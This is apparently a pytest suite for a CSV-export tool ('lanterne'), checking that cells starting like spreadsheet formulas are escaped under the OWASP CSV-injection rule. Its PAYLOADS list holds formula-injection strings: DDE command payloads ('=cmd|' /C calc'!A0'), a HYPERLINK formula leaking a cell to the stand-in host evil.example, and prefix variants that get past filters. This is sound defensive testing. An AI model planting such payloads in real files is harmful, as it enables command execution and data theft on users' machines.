"""CSV injection: cells a spreadsheet would run as formulas are written inert.

The attack: a household file whose text cells (or column names) start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return — ``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0`` — goes
through ``lanterne score -o scores.csv`` into a CSV the user opens in a spreadsheet. The
written file is read back with Python's own ``csv`` module (an independent reader) and
every cell is checked against the OWASP rule written out by hand here.
"""

from __future__ import annotations

import csv

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lanterne.catalog import sample_path
from lanterne.io.csvsafe import escape_formulas, is_formula
from lanterne.io.tables import read_table, write_table

pytestmark = pytest.mark.hostile  # an attack: `pytest -m hostile` runs them all

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A2,"Cliquez ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dcmd|' /C calc'!A0",  # full-width equals sign
]
HARMLESS = ["-3", "+1.5", "-2,5", "1e-3", "-.5", "Dupont", "a=b", " =1", "", "'=already"]


def owasp_dangerous(cell: str) -> bool:
    """The rule, written independently: a formula start, unless a plain number."""
    if not cell or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20":
        return False
    if set(cell) <= set("0123456789+-.,eE"):
        try:
            float(cell.replace(",", "."))
        except ValueError:
            return True
        return False
    return True


def rows_of(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def hostile_households(tmp_path):
    frame = read_table(sample_path()).head(len(PAYLOADS) + len(HARMLESS))
    cells = PAYLOADS + HARMLESS
    frame = frame.with_columns(
        pl.Series("note", cells),
        pl.Series("=HYPERLINK(A2&B2)", cells[::-1]),
    )
    path = tmp_path / "households.csv"
    frame.write_csv(path)
    return path


def test_score_csv_output_is_inert(cli, hostile_households, tmp_path):
    out = tmp_path / "scores.csv"
    result = cli("score", "fr-cnaf-2014", hostile_households, "-o", out)
    assert result.exit_code == 0, result.output
    rows = rows_of(out)
    header, body = rows[0], rows[1:]
    assert "'=HYPERLINK(A2&B2)" in header  # a column name is a cell too
    dangerous = [cell for row in rows for cell in row if owasp_dangerous(cell)]
    assert dangerous == []
    notes = [row[header.index("note")] for row in body]
    assert notes == ["'" + p for p in PAYLOADS] + HARMLESS  # harmless cells untouched
    # number columns are written as numbers, even negative ones
    assert all(float(row[header.index("score")]) >= 0 for row in body)


def test_raw_csv_keeps_the_values(cli, hostile_households, tmp_path):
    out = tmp_path / "scores.csv"
    result = cli("score", "fr-cnaf-2014", hostile_households, "-o", out, "--raw-csv")
    assert result.exit_code == 0, result.output
    rows = rows_of(out)
    notes = [row[rows[0].index("note")] for row in rows[1:]]
    assert notes == PAYLOADS + HARMLESS
    assert "=HYPERLINK(A2&B2)" in rows[0]


def test_parquet_output_is_never_changed(hostile_households, tmp_path):
    frame = read_table(hostile_households)
    write_table(frame, tmp_path / "t.parquet")
    assert pl.read_parquet(tmp_path / "t.parquet").equals(frame)


def test_negative_numbers_and_typed_columns_stay(tmp_path):
    frame = pl.DataFrame(
        {
            "n": [-1, 2],
            "x": [-0.5, 1.5],
            "b": [True, False],
            "cat": pl.Series(["=1+1", "ok"], dtype=pl.Categorical),
            "enum": pl.Series(["@x", "ok"], dtype=pl.Enum(["@x", "ok"])),
        }
    )
    write_table(frame, tmp_path / "t.csv")
    assert rows_of(tmp_path / "t.csv") == [
        ["n", "x", "b", "cat", "enum"],
        ["-1", "-0.5", "true", "'=1+1", "'@x"],
        ["2", "1.5", "false", "ok", "ok"],
    ]


def test_escaped_names_do_not_collide():
    frame = pl.DataFrame({"=x": ["a"], "'=x": ["b"]})
    assert escape_formulas(frame).columns == ["''=x", "'=x"]


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(st.text(max_size=12), min_size=1, max_size=20))
def test_escaping_agrees_with_the_rule(cells):
    """Polars' vectorised rule, Python's rule and the hand-written OWASP rule agree."""
    escaped = escape_formulas(pl.DataFrame({"c": cells}))["c"].to_list()
    for cell, out in zip(cells, escaped, strict=True):
        assert is_formula(cell) == owasp_dangerous(cell), repr(cell)
        assert out == ("'" + cell if owasp_dangerous(cell) else cell), repr(cell)


@pytest.mark.parametrize("raw", [False, True])
def test_streamed_score_csv_output_is_inert_too(cli, hostile_households, tmp_path, raw):
    # A folder of Parquet files is scored partition by partition (lanterne.scale.score):
    # its CSV output goes through the same rule.
    folder = tmp_path / "in"
    folder.mkdir()
    read_table(hostile_households).write_parquet(folder / "part.parquet")
    out = tmp_path / "scores.csv"
    args = ["score", "fr-cnaf-2014", folder, "-o", out] + (["--raw-csv"] if raw else [])
    result = cli(*args)
    assert result.exit_code == 0, result.output
    rows = rows_of(out)
    notes = [row[rows[0].index("note")] for row in rows[1:]]
    if raw:
        assert notes == PAYLOADS + HARMLESS
    else:
        assert [cell for row in rows for cell in row if owasp_dangerous(cell)] == []
        assert notes == ["'" + p for p in PAYLOADS] + HARMLESS
